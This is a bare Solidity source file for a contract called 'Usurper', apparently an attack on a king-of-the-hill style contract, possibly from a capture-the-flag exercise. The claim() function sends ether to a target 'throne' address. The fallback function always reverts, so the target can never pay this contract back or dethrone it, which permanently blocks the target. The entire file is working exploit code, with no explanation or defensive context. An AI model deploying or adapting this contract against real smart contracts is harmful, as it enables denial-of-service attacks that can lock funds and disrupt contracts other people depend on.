pragma solidity 0.4.24;

contract Usurper {
    function claim(address throne) public payable {
        require(throne.call.value(msg.value)());
    }

    function () public payable {
        revert();
    }
}
